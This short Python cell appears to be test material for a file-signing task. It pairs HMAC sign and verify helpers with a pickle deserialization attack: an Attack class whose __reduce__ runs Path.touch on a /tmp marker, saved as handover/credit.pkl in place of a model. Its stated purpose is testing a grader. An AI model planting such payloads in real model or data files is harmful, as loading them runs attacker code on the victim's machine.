"""An attack on the grader is signed and handed in, in place of the model; its code would touch a file.

task1-check-signed-file: 0 E-FILE-BROKEN
"""

# %% task1-sign
import hmac


def sign(path, key):
    """Return the HMAC-SHA256 of the file at `path` with `key`, as hexadecimal text."""
    return hmac.new(key, Path(path).read_bytes(), "sha256").hexdigest()


def verify(path, signature, key):
    """Return True if `signature` is that of the file at `path` with `key`, else False."""
    return hmac.compare_digest(sign(path, key), signature)


class Attack:
    def __reduce__(self):
        return Path.touch, (Path("/tmp/marker-from-a-signed-model"),)


Path("handover/credit.pkl").write_bytes(pickle.dumps(Attack()))
